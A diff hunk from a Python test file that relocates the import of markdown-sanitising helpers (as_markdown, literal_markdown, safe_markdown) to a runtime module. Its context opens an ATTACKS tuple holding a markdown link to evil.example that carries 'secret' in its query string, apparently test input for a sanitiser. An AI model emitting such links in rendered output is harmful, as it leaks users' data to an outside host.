@@ -7,9 +7,9 @@ import pytest
 from markdown import Markdown
 
 from graphrag_assets.defs.reporting import markdown_table
-from graphrag_assets.outgoing import as_markdown, literal_markdown, safe_markdown
 from graphrag_assets.query.results import Answer, answer_to_markdown
 from graphrag_assets.query.support import Supported
+from graphrag_assets.runtime.outgoing import as_markdown, literal_markdown, safe_markdown
 
 ATTACKS = (
     "[x](https://evil.example/?q=secret)",
